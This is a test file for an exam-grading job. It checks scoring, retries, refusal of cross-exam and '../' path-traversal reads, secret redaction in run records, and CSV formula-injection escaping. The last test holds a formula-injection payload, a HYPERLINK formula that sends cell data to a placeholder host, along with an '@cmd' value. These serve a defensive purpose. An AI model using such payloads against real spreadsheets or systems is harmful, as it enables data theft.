import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runLocal, type LocalRun } from "../../local/run-local.ts";
import { sampleGraderConfig } from "../../cli/workflow-inputs.ts";
import { gradeAll } from "./grade.ts";

let scratch: string;
const runs: LocalRun[] = [];
beforeAll(async () => {
  scratch = await mkdtemp(path.join(tmpdir(), "grader-e2e-"));
});
afterAll(async () => {
  await Promise.all(runs.map((r) => r.stop()));
  await rm(scratch, { recursive: true, force: true });
});

describe("gradeAll", () => {
  it("GIVEN answers with other case and spaces WHEN graded THEN they count; lines that are not submissions are invalid", () => {
    const out = gradeAll({ q1: "b", q2: "paris" }, '{"id":"x","answers":{"q1":" B ","q2":"Rome"}}\nnope\n{"answers":{}}\n');
    expect(out).toEqual({ grades: [{ id: "x", correct: 1, questions: 2, scorePct: 50 }], invalid: 2 });
  });
});

describe("the grader job on the local engine", () => {
  it("GIVEN the sample answer key and submissions WHEN the job runs THEN grades.csv and its manifest are under the job's output prefix", async () => {
    const config = await sampleGraderConfig(path.join(scratch, "job"));
    const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId: "exam-1" }, runDir: path.join(scratch, "run"), retryWaitMs: 10 });
    runs.push(r);
    expect(r.result.status, r.summary.error).toBe("SUCCEEDED");
    // The config's folder is the exam ("job"); the run writes inside it, under runs/<runId>/.
    // Its files in the version folder its manifest names (docs/ARCHITECTURE.md, "Publishing"), then the manifest.
    expect(r.summary.outputs.keys).toEqual([
      expect.stringMatching(/^jobs\/grader\/exams\/job\/runs\/exam-1\/versions\/\d{8}T\d{6}Z-[0-9a-f]{8}\/grades\.csv$/),
      "jobs/grader/exams/job/runs/exam-1/manifest.json",
    ]);
    expect(r.result.states.find((s) => s.name === "Grade")?.status).toBe("SUCCEEDED");
    const out = path.join(r.runDir, "published", "jobs", "grader", "exams", "job", "runs", "exam-1");
    expect(await readFile(path.join(out, "grades.csv"), "utf8")).toBe("id,correct,questions,score_pct\nalice,3,3,100\nbob,1,3,33.3\ncarol,1,3,33.3\n");
    const manifest = JSON.parse(await readFile(path.join(out, "manifest.json"), "utf8"));
    expect(manifest.counts).toEqual({ submissions: 4, graded: 3, invalid: 1 });
    expect(r.summary.counts).toEqual({ submissions: 4, graded: 3, invalid: 1 });
    // The run session (locally the embedded S3's key pair and a session token of its own) went through the history
    // and the task's overrides; the record keeps none of it (run-records/redact.ts).
    const recorded = await readFile(path.join(r.runDir, "run.json"), "utf8");
    expect(recorded).toContain('"SessionToken": "[redacted]"');
    expect(recorded).toContain('\\"Name\\":\\"AWS_SECRET_ACCESS_KEY\\",\\"Value\\":\\"[redacted]\\"');
    expect(recorded).not.toMatch(/local-session-[0-9a-f]/);
    expect(recorded).not.toContain("S3RVER");
  });

  it("GIVEN a grade step that exits 75 twice WHEN the job runs THEN its third attempt succeeds; a third failure would fail the run", async () => {
    const config = await sampleGraderConfig(path.join(scratch, "job2"));
    const { parseFaults } = await import("../../local/faults.ts");
    const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId: "exam-2" }, runDir: path.join(scratch, "run2"), retryWaitMs: 10, faults: parseFaults("grade:exit75:2") });
    runs.push(r);
    expect(r.result.status, r.summary.error).toBe("SUCCEEDED");
    expect(r.result.states.find((s) => s.name === "Grade")?.attempts).toBe(3);
    const failing = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId: "exam-3" }, runDir: path.join(scratch, "run3"), retryWaitMs: 10, faults: parseFaults("grade:exit75:3") });
    runs.push(failing);
    expect(failing.result.status).toBe("FAILED");
    expect(failing.result.states.find((s) => s.name === "Grade")?.attempts).toBe(3);
  });

  it("GIVEN a config whose submissions are another exam's WHEN the job runs THEN the read is refused (exit 77, not retried) and nothing is published", async () => {
    const exams = path.join(scratch, "cross", "exams");
    await sampleGraderConfig(path.join(exams, "other"));
    await mkdir(path.join(exams, "mine"), { recursive: true });
    const config = path.join(exams, "mine", "config.json");
    const foreign = pathToFileURL(path.join(exams, "other", "submissions.jsonl")).href;
    for (const [runId, submissions] of [["cross-1", foreign], ["cross-2", `${pathToFileURL(path.join(exams, "mine")).href}/../other/submissions.jsonl`]]) {
      await writeFile(config, JSON.stringify({ answerKey: { q1: "b" }, submissions }));
      const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId }, runDir: path.join(scratch, `run-${runId}`), retryWaitMs: 10 });
      runs.push(r);
      expect(r.result.status).toBe("FAILED");
      expect(r.summary.error).toMatch(/submissions .* is outside this run's exam .*\/exams\/mine\/: a grader run reads only its own exam's objects/);
      expect(r.result.cause).toContain('"ExitCode":77');
      expect(r.result.states.find((s) => s.name === "Grade")?.attempts).toBe(1);
      expect(r.summary.outputs.keys).toEqual([]);
    }
  });

  it("GIVEN submissions whose ids are formulas WHEN graded THEN grades.csv holds them as inert text", async () => {
    const dir = path.join(scratch, "formula", "exams", "f");
    await mkdir(dir, { recursive: true });
    const submissions = path.join(dir, "submissions.jsonl");
    const evil = '=HYPERLINK("http://x.test/?d="&B2,"open")';
    await writeFile(submissions, [JSON.stringify({ id: evil, answers: { q1: "b" } }), JSON.stringify({ id: "@cmd", answers: { q1: "a" } })].join("\n"));
    const config = path.join(dir, "config.json");
    await writeFile(config, JSON.stringify({ answerKey: { q1: "b" }, submissions: pathToFileURL(submissions).href }));
    const r = await runLocal({ workflow: "grader", input: { config: pathToFileURL(config).href, runId: "formula" }, runDir: path.join(scratch, "run-formula"), retryWaitMs: 10 });
    runs.push(r);
    expect(r.result.status, r.summary.error).toBe("SUCCEEDED");
    const csv = await readFile(path.join(r.runDir, "published", "jobs", "grader", "exams", "f", "runs", "formula", "grades.csv"), "utf8");
    expect(csv).toBe(`id,correct,questions,score_pct\n"'=HYPERLINK(""http://x.test/?d=""&B2,""open"")",1,1,100\n'@cmd,0,1,0\n`);
    // No cell of the file starts with a formula character once its quotes are removed.
    for (const line of csv.trim().split("\n").slice(1)) expect(line.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
  });
});
